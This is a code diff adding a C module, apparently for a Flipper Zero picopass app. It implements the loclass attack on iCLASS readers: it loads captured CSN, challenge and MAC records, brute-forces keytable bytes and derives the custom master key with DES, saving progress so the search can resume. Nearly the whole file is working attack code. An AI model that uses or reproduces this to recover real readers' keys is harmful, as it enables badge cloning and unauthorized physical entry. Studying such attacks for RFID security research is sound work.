@@ -0,0 +1,422 @@
+#include "loclass_attack.h"
+#include "loclass_writer.h"
+#include "lib/loclass/optimized_cipher.h"
+#include "lib/loclass/optimized_elite.h"
+#include "lib/loclass/optimized_ikeys.h"
+
+#include <furi/furi.h>
+#include <storage/storage.h>
+#include <stream/stream.h>
+#include <stream/buffered_file_stream.h>
+#include <lib/toolbox/args.h>
+#include <mbedtls/des.h>
+
+#define TAG "LoclassAttack"
+
+#define LOCLASS_ATTACK_STATE_PATH EXT_PATH("apps_data/picopass/.loclass.state")
+#define LOCLASS_ATTACK_STATE_MAGIC (0x314B414C) // "LAK1"
+
+#define LOCLASS_ATTACK_MAX_ITEMS (16)
+#define LOCLASS_ATTACK_MAX_BYTES (3)
+// Candidates tried between two checks for stop, progress and saving
+#define LOCLASS_ATTACK_CHUNK (1024)
+#define LOCLASS_ATTACK_PROGRESS_INTERVAL_MS (1000)
+#define LOCLASS_ATTACK_SAVE_INTERVAL_MS (30 * 1000)
+
+// Flags above the key byte of a keytable entry
+#define LOCLASS_ATTACK_CRACKED (0x0100)
+
+typedef struct {
+    uint8_t csn[8];
+    uint8_t cc_nr[12];
+    uint8_t mac[4];
+} LoclassAttackItem;
+
+// Everything needed to resume, written to the SD card as is
+typedef struct {
+    uint32_t magic;
+    LoclassAttackItem items[LOCLASS_ATTACK_MAX_ITEMS];
+    uint8_t items_total;
+    uint8_t items_done;
+    uint16_t done_mask;
+    // item being bruteforced, -1 when the next one has to be picked
+    int8_t current;
+    uint8_t bytes_count;
+    uint8_t bytes_to_recover[LOCLASS_ATTACK_MAX_BYTES];
+    uint32_t next_candidate;
+    uint16_t keytable[128];
+} LoclassAttackState;
+
+struct LoclassAttack {
+    Storage* storage;
+    FuriThread* thread;
+    LoclassAttackCallback callback;
+    void* context;
+    volatile bool running;
+    uint32_t candidates_per_second;
+    bool key_found;
+    uint8_t key[8];
+    LoclassAttackState state;
+};
+
+LoclassAttack* loclass_attack_alloc() {
+    LoclassAttack* instance = malloc(sizeof(LoclassAttack));
+    instance->storage = furi_record_open(RECORD_STORAGE);
+
+    return instance;
+}
+
+void loclass_attack_free(LoclassAttack* instance) {
+    furi_assert(instance);
+
+    loclass_attack_stop(instance);
+    furi_record_close(RECORD_STORAGE);
+    free(instance);
+}
+
+static bool
+    loclass_attack_parse_hex(const char* line, const char* field, uint8_t* out, size_t len) {
+    const char* value = strstr(line, field);
+    if(!value) return false;
+    value += strlen(field);
+
+    for(size_t i = 0; i < len; i++) {
+        if(!args_char_to_hex(value[i * 2], value[i * 2 + 1], &out[i])) return false;
+    }
+    return true;
+}
+
+// One item per distinct CSN of the last session that logged MACs
+static bool loclass_attack_load_items(LoclassAttack* instance, LoclassAttackState* state) {
+    Stream* stream = buffered_file_stream_alloc(instance->storage);
+    FuriString* line = furi_string_alloc();
+    state->items_total = 0;
+
+    if(buffered_file_stream_open(stream, LOCLASS_LOGS_PATH, FSAM_READ, FSOM_OPEN_EXISTING)) {
+        bool new_session = false;
+        while(stream_read_line(stream, line)) {
+            const char* str = furi_string_get_cstr(line);
+            if(furi_string_start_with_str(line, "loclass-v1-info")) {
+                if(strstr(str, "started")) new_session = true;
+                continue;
+            }
+            if(!furi_string_start_with_str(line, "loclass-v1-mac")) continue;
+
+            LoclassAttackItem item = {};
+            if(!loclass_attack_parse_hex(str, " csn ", item.csn, sizeof(item.csn)) ||
+               !loclass_attack_parse_hex(str, " cc ", item.cc_nr, 8) ||
+               !loclass_attack_parse_hex(str, " nr ", &item.cc_nr[8], 4) ||
+               !loclass_attack_parse_hex(str, " mac ", item.mac, sizeof(item.mac))) {
+                continue;
+            }
+
+            if(new_session) {
+                state->items_total = 0;
+                new_session = false;
+            }
+
+            bool known = false;
+            for(size_t i = 0; i < state->items_total && !known; i++) {
+                known = memcmp(state->items[i].csn, item.csn, sizeof(item.csn)) == 0;
+            }
+            if(!known && state->items_total < LOCLASS_ATTACK_MAX_ITEMS) {
+                state->items[state->items_total++] = item;
+            }
+        }
+    }
+
+    buffered_file_stream_close(stream);
+    stream_free(stream);
+    furi_string_free(line);
+
+    FURI_LOG_I(TAG, "Loaded %u CSNs", state->items_total);
+    return state->items_total > 0;
+}
+
+static void loclass_attack_save_state(LoclassAttack* instance) {
+    File* file = storage_file_alloc(instance->storage);
+    if(storage_file_open(file, LOCLASS_ATTACK_STATE_PATH, FSAM_WRITE, FSOM_CREATE_ALWAYS)) {
+        storage_file_write(file, &instance->state, sizeof(LoclassAttackState));
+    }
+    storage_file_close(file);
+    storage_file_free(file);
+}
+
+// Resume only when the saved state belongs to the same captured MACs
+static bool loclass_attack_load_state(LoclassAttack* instance, const LoclassAttackState* fresh) {
+    LoclassAttackState* saved = malloc(sizeof(LoclassAttackState));
+    File* file = storage_file_alloc(instance->storage);
+
+    bool loaded =
+        storage_file_open(file, LOCLASS_ATTACK_STATE_PATH, FSAM_READ, FSOM_OPEN_EXISTING) &&
+        storage_file_read(file, saved, sizeof(LoclassAttackState)) == sizeof(LoclassAttackState) &&
+        saved->magic == LOCLASS_ATTACK_STATE_MAGIC && saved->items_total == fresh->items_total &&
+        memcmp(saved->items, fresh->items, sizeof(LoclassAttackItem) * fresh->items_total) == 0;
+    if(loaded) {
+        memcpy(&instance->state, saved, sizeof(LoclassAttackState));
+    }
+
+    storage_file_close(file);
+    storage_file_free(file);
+    free(saved);
+
+    return loaded;
+}
+
+// Unknown keytable bytes selected by an item's CSN
+static uint8_t loclass_attack_unknown_bytes(
+    const LoclassAttackState* state,
+    const LoclassAttackItem* item,
+    uint8_t bytes[8]) {
+    uint8_t key_index[8] = {};
+    loclass_hash1(item->csn, key_index);
+
+    uint8_t count = 0;
+    for(size_t i = 0; i < 8; i++) {
+        if(state->keytable[key_index[i]] & LOCLASS_ATTACK_CRACKED) continue;
+        bool listed = false;
+        for(size_t j = 0; j < count && !listed; j++) {
+            listed = bytes[j] == key_index[i];
+        }
+        if(!listed) bytes[count++] = key_index[i];
+    }
+    return count;
+}
+
+// Picks the pending item with the fewest unknown bytes, items that need none are done
+static bool loclass_attack_select_item(LoclassAttackState* state) {
+    while(state->items_done < state->items_total) {
+        int8_t best = -1;
+        uint8_t best_count = 9;
+        uint8_t best_bytes[8] = {};
+
+        for(size_t i = 0; i < state->items_total; i++) {
+            if(state->done_mask & (1 << i)) continue;
+            uint8_t bytes[8] = {};
+            uint8_t count = loclass_attack_unknown_bytes(state, &state->items[i], bytes);
+            if(count < best_count) {
+                best = i;
+                best_count = count;
+                memcpy(best_bytes, bytes, sizeof(bytes));
+            }
+        }
+
+        if(best_count == 0) {
+            state->done_mask |= 1 << best;
+            state->items_done++;
+            continue;
+        }
+        if(best_count > LOCLASS_ATTACK_MAX_BYTES) {
+            FURI_LOG_E(TAG, "CSN needs a %u byte bruteforce", best_count);
+            return false;
+        }
+
+        state->current = best;
+        state->bytes_count = best_count;
+        memcpy(state->bytes_to_recover, best_bytes, best_count);
+        state->next_candidate = 0;
+        return true;
+    }
+
+    return false;
+}
+
+// Hot loop, tries candidates up to end and keeps the keytable bytes of a match
+static bool loclass_attack_bruteforce(LoclassAttackState* state, uint32_t end) {
+    LoclassAttackItem* item = &state->items[state->current];
+    uint8_t key_index[8] = {};
+    uint8_t key_sel[8] = {};
+    uint8_t key_sel_p[8] = {};
+    uint8_t div_key[8] = {};
+    uint8_t mac[4] = {};
+    loclass_hash1(item->csn, key_index);
+
+    for(; state->next_candidate < end; state->next_candidate++) {
+        uint32_t candidate = state->next_candidate;
+        for(size_t j = 0; j < state->bytes_count; j++) {
+            state->keytable[state->bytes_to_recover[j]] = (candidate >> (j * 8)) & 0xFF;
+        }
+        for(size_t i = 0; i < 8; i++) {
+            key_sel[i] = state->keytable[key_index[i]] & 0xFF;
+        }
+
+        loclass_permutekey_rev(key_sel, key_sel_p);
+        loclass_diversifyKey(item->csn, key_sel_p, div_key);
+        loclass_opt_doReaderMAC(item->cc_nr, div_key, mac);
+
+        if(memcmp(mac, item->mac, sizeof(mac)) == 0) {
+            for(size_t j = 0; j < state->bytes_count; j++) {
+                state->keytable[state->bytes_to_recover[j]] |= LOCLASS_ATTACK_CRACKED;
+            }
+            return true;
+        }
+    }
+
+    return false;
+}
+
+// Kcus from the first 16 keytable bytes, y[0] and z[0] of loclass_hash2()
+static bool loclass_attack_calc_key(LoclassAttack* instance) {
+    uint8_t y_0[8] = {};
+    uint8_t z_0[8] = {};
+    for(size_t i = 0; i < 8; i++) {
+        if(!(instance->state.keytable[i] & LOCLASS_ATTACK_CRACKED) ||
+           !(instance->state.keytable[i + 8] & LOCLASS_ATTACK_CRACKED)) {
+            FURI_LOG_E(TAG, "Keytable byte %d missing", (int)i);
+            return false;
+        }
+        y_0[i] = instance->state.keytable[i] & 0xFF;
+        z_0[i] = instance->state.keytable[i + 8] & 0xFF;
+    }
+
+    mbedtls_des_context ctx;
+    mbedtls_des_init(&ctx);
+    uint8_t z_0_rev[8] = {};
+    uint8_t key64_negated[8] = {};
+    uint8_t key64_std[8] = {};
+    uint8_t result[8] = {};
+
+    // ~Kcus = DES_enc(z[0], y[0])
+    loclass_permutekey_rev(z_0, z_0_rev);
+    mbedtls_des_setkey_enc(&ctx, z_0_rev);
+    mbedtls_des_crypt_ecb(&ctx, y_0, key64_negated);
+    for(size_t i = 0; i < 8; i++) instance->key[i] = ~key64_negated[i];
+
+    // z[0] = DES_enc(Kcus, ~Kcus) verifies it
+    loclass_permutekey_rev(instance->key, key64_std);
+    mbedtls_des_setkey_enc(&ctx, key64_std);
+    mbedtls_des_crypt_ecb(&ctx, key64_negated, result);
+    mbedtls_des_free(&ctx);
+
+    instance->key_found = memcmp(z_0, result, 4) == 0;
+    return instance->key_found;
+}
+
+static int32_t loclass_attack_worker(void* context) {
+    LoclassAttack* instance = context;
+    LoclassAttackState* state = &instance->state;
+
+    uint32_t save_tick = furi_get_tick();
+    uint32_t progress_tick = save_tick;
+    uint32_t progress_candidates = state->next_candidate;
+    bool finished = false;
+    bool success = false;
+
+    while(instance->running) {
+        if(state->current < 0 && !loclass_attack_select_item(state)) {
+            success = state->items_done == state->items_total && loclass_attack_calc_key(instance);
+            finished = true;
+            break;
+        }
+
+        uint32_t total = 1UL << (8 * state->bytes_count);
+        uint32_t end = MIN(total, state->next_candidate + LOCLASS_ATTACK_CHUNK);
+        if(loclass_attack_bruteforce(state, end)) {
+            FURI_LOG_I(
+                TAG, "CSN %d done after %lu candidates", state->current, state->next_candidate);
+            state->done_mask |= 1 << state->current;
+            state->items_done++;
+            state->current = -1;
+            state->next_candidate = 0;
+            progress_candidates = 0;
+        } else if(state->next_candidate >= total) {
+            FURI_LOG_E(TAG, "No candidate matches CSN %d", state->current);
+            finished = true;
+            break;
+        }
+
+        uint32_t now = furi_get_tick();
+        if(now - progress_tick >= furi_ms_to_ticks(LOCLASS_ATTACK_PROGRESS_INTERVAL_MS)) {
+            if(state->next_candidate > progress_candidates) {
+                instance->candidates_per_second = (state->next_candidate - progress_candidates) *
+                                                  furi_kernel_get_tick_frequency() /
+                                                  (now - progress_tick);
+            }
+            progress_tick = now;
+            progress_candidates = state->next_candidate;
+            instance->callback(LoclassAttackEventProgress, instance->context);
+        }
+        if(now - save_tick >= furi_ms_to_ticks(LOCLASS_ATTACK_SAVE_INTERVAL_MS)) {
+            save_tick = now;
+            loclass_attack_save_state(instance);
+        }
+    }
+
+    if(success) {
+        storage_simply_remove(instance->storage, LOCLASS_ATTACK_STATE_PATH);
+    } else {
+        loclass_attack_save_state(instance);
+    }
+    if(finished) {
+        instance->callback(
+            success ? LoclassAttackEventSuccess : LoclassAttackEventFail, instance->context);
+    }
+
+    return 0;
+}
+
+bool loclass_attack_start(LoclassAttack* instance, LoclassAttackCallback callback, void* context) {
+    furi_assert(instance);
+    furi_assert(callback);
+    furi_assert(!instance->thread);
+
+    LoclassAttackState* fresh = malloc(sizeof(LoclassAttackState));
+    bool loaded = loclass_attack_load_items(instance, fresh);
+    if(loaded && !loclass_attack_load_state(instance, fresh)) {
+        memset(&instance->state, 0, sizeof(LoclassAttackState));
+        memcpy(instance->state.items, fresh->items, sizeof(fresh->items));
+        instance->state.items_total = fresh->items_total;
+        instance->state.magic = LOCLASS_ATTACK_STATE_MAGIC;
+        instance->state.current = -1;
+    }
+    free(fresh);
+    if(!loaded) return false;
+
+    instance->callback = callback;
+    instance->context = context;
+    instance->key_found = false;
+    instance->candidates_per_second = 0;
+    instance->running = true;
+
+    instance->thread =
+        furi_thread_alloc_ex("LoclassAttackWorker", 2048, loclass_attack_worker, instance);
+    furi_thread_set_priority(instance->thread, FuriThreadPriorityLow);
+    furi_thread_start(instance->thread);
+
+    return true;
+}
+
+void loclass_attack_stop(LoclassAttack* instance) {
+    furi_assert(instance);
+
+    if(!instance->thread) return;
+
+    instance->running = false;
+    furi_thread_join(instance->thread);
+    furi_thread_free(instance->thread);
+    instance->thread = NULL;
+}
+
+void loclass_attack_get_progress(LoclassAttack* instance, LoclassAttackProgress* progress) {
+    furi_assert(instance);
+    furi_assert(progress);
+
+    const LoclassAttackState* state = &instance->state;
+    progress->items_done = state->items_done;
+    progress->items_total = state->items_total;
+    progress->bytes_to_recover = state->current < 0 ? 0 : state->bytes_count;
+    progress->candidates_done = state->next_candidate;
+    progress->candidates_total = progress->bytes_to_recover ?
+                                     1UL << (8 * progress->bytes_to_recover) :
+                                     0;
+    progress->candidates_per_second = instance->candidates_per_second;
+}
+
+bool loclass_attack_get_key(LoclassAttack* instance, uint8_t key[8]) {
+    furi_assert(instance);
+
+    if(instance->key_found) {
+        memcpy(key, instance->key, sizeof(instance->key));
+    }
+    return instance->key_found;
+}